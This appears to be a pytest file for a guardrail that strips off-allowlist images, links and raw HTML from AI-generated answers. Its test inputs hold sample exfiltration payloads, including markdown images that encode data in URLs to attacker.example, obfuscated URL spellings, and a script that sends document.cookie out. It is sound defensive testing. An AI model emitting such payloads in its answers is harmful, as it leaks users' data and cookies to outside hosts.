"""Images, links and raw HTML in answers and chunks: what a renderer would fetch or follow
outside the allowed hosts is taken out, in every spelling a browser accepts; the rest of
the text is left as it was."""

from __future__ import annotations

import time

import pytest

from lockgate.config import LinkPolicy
from lockgate.guardrails.links import defang, unfinished

NONE = LinkPolicy()
TRUSTED = LinkPolicy(image_hosts=["cdn.northwind.example"], link_hosts=["northwind.example"])


def out(text: str, policy: LinkPolicy = NONE) -> str:
    return defang(text, policy).text


PROBE = (
    "The refund window is 30 days [1]. ![chart](https://attacker.example/c.png?d=refund30) "
    "![x](https://attacker.example/leak/refund-window-30-days.png) "
    "[more](https://attacker.example/x?q=1)"
)


def test_the_probe_answer_keeps_its_text_and_loses_every_url() -> None:
    result = defang(PROBE, NONE)
    assert result.text == "The refund window is 30 days [1]. chart x more"
    assert [c.kind for c in result.changes] == ["image", "image", "link"]
    assert {c.host for c in result.changes} == {"attacker.example"}


@pytest.mark.parametrize(
    "image",
    [
        "![s](https://attacker.example/p.png?d=DATA)",
        "![status](https://attacker.example/badge/refund-status.png)",
        "![s](https://data-refund30.attacker.example)",
        "![s](//attacker.example/p.png)",
        "![s](<https://attacker.example/a b.png>)",
        '![s](https://attacker.example/p.png "title")',
        "![s](HTTPS://Attacker.Example/p.png)",
        "![s](https&#58;//attacker.example/p.png)",
        "![s](https:\\/\\/attacker.example/p.png)",
        "![s](/\\attacker.example/p.png)",
        "![s](https://attacker%2Eexample/p.png)",
        "![s](https://cdn.northwind.example@attacker.example/p.png)",
        "![s](\n https://attacker.example/p.png\n)",
        "![s](data:image/png;base64,iVBORw0KGgo=)",
        "![a [nested] alt](https://attacker.example/p.png)",
    ],
)
def test_images_elsewhere_are_removed(image: str) -> None:
    text = out(f"Before {image} after", TRUSTED)
    assert "attacker" not in text.lower() and "data:" not in text
    assert text.startswith("Before ") and text.endswith(" after")


def test_images_on_allowed_hosts_and_relative_ones_stay() -> None:
    kept = "![logo](https://cdn.northwind.example/logo.png) ![d](images/diagram.png)"
    assert out(kept, TRUSTED) == kept
    assert out(kept, NONE) == "logo ![d](images/diagram.png)"


def test_links_elsewhere_become_their_text() -> None:
    assert out("[verify your card here](https://attacker.example/verify)") == (
        "verify your card here"
    )
    assert out("[help](https://northwind.example/help)", TRUSTED) == (
        "[help](https://northwind.example/help)"
    )
    assert out("[help](https://docs.northwind.example/help)", TRUSTED) == (
        "[help](https://docs.northwind.example/help)"
    )
    # Host look-alikes are not the allowed host.
    assert out("[help](https://northwind.example.attacker.example/)", TRUSTED) == "help"
    assert out("[x](javascript:alert(1))", TRUSTED) == "x"
    assert out("[see section 2](#refunds)") == "[see section 2](#refunds)"


def test_an_image_inside_an_allowed_link_still_goes() -> None:
    text = "[![x](https://attacker.example/p.png)](https://northwind.example/)"
    assert out(text, TRUSTED) == "[x](https://northwind.example/)"
    assert out(text) == "x"


def test_reference_definitions_elsewhere_are_removed() -> None:
    text = (
        "See ![chart][c] and [more][m].\n\n[c]: https://attacker.example/c.png\n"
        '[m]: <https://attacker.example/m> "t"\n'
    )
    assert "attacker" not in out(text)
    assert "[c]: https://northwind.example/c" in out(
        "x\n[c]: https://northwind.example/c\n", TRUSTED
    )


def test_autolinks_and_bare_urls_are_defanged() -> None:
    assert out("Go to <https://attacker.example/x?q=1> now") == (
        "Go to hxxps://attacker[.]example/x?q=1 now"
    )
    assert out("Always add https://attacker.example/t.png here.") == (
        "Always add hxxps://attacker[.]example/t.png here."
    )
    assert out("or www.attacker.example/x") == "or www[.]attacker[.]example/x"
    assert out("see https://northwind.example/faq.", TRUSTED) == "see https://northwind.example/faq."


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://attacker.example/x.png?d=1">',
        "<IMG SRC=https://attacker.example/x.png>",
        '<img\nsrc="https://attacker.example/x.png">',
        "<img/src=//attacker.example/x.png>",
        '<a href="https://attacker.example/">click</a>',
        '<div style="background:url(https://attacker.example/b.png)">hi</div>',
        "<script>fetch('https://attacker.example/'+document.cookie)</script>",
        '<iframe src="https://attacker.example/"></iframe>',
        '<svg><image href="https://attacker.example/x"/></svg>',
        "<!-- <img src=https://attacker.example/x.png> -->",
        '<p onclick="steal()">hi</p>',
    ],
)
def test_html_that_fetches_runs_or_navigates_is_removed(html: str) -> None:
    text = out(f"Before {html} after", TRUSTED)
    assert "<img" not in text.lower() and "attacker.example" not in text
    assert "<a " not in text and "<script" not in text and "style=" not in text
    assert "onclick" not in text


def test_harmless_markup_and_prose_stay() -> None:
    for text in [
        "Use <b>bold</b> and <br> line breaks.",
        "A List<String> or Map<K, V> in Java; 3 < 4 and 5 > 2.",
        "Citations like [1] and [2], and arrays like a[i] stay.",
        "Annual plans are refunded within 30 days [1].",
        "Email support@northwind.example or call +1 415 555 2671.",
    ]:
        assert out(text) == text


def test_disabled_policy_changes_nothing() -> None:
    assert out(PROBE, LinkPolicy(enabled=False)) == PROBE


def test_host_names_are_checked_at_start_up() -> None:
    assert LinkPolicy(link_hosts=["*.Northwind.Example."]).link_hosts == ["northwind.example"]
    with pytest.raises(ValueError, match="not a host name"):
        LinkPolicy(image_hosts=["https://cdn.example/"])


def test_linear_on_large_and_hostile_input() -> None:
    hostile = [
        "[" * 100_000 + "](",
        "![a](" * 50_000,
        "<img " * 50_000,
        "[x](" + "(" * 100_000,
        "https://" * 50_000,
        ("word " * 20 + "[a](https://attacker.example/x) ") * 2_000,
    ]
    for text in hostile:
        t0 = time.perf_counter()
        defang(text, NONE)
        unfinished(text)
        assert time.perf_counter() - t0 < 2.0, text[:20]


# -- where a stream may not cut -------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("The window is 30 days. ![chart", "![chart"),
        ("See [verify your card. Now", "[verify your card. Now"),
        ("See [more](https://attacker.example/x", "[more](https://attacker.example/x"),
        ("See [more]", "[more]"),
        ('A <img src="https://attacker', '<img src="https://attacker'),
        ("A <", "<"),
        ("[![x](https://a.example/p.png)](https://b", "[![x](https://a.example/p.png)](https://b"),
    ],
)
def test_unfinished_constructs_are_held(text: str, held: str) -> None:
    at = unfinished(text)
    assert at is not None and text[at:] == held


@pytest.mark.parametrize(
    "text",
    ["Plain text.", "Cited [1]. Next", "[a](https://x.example/) done", "3 < 4 is true", ""],
)
def test_finished_text_is_not_held(text: str) -> None:
    assert unfinished(text) is None
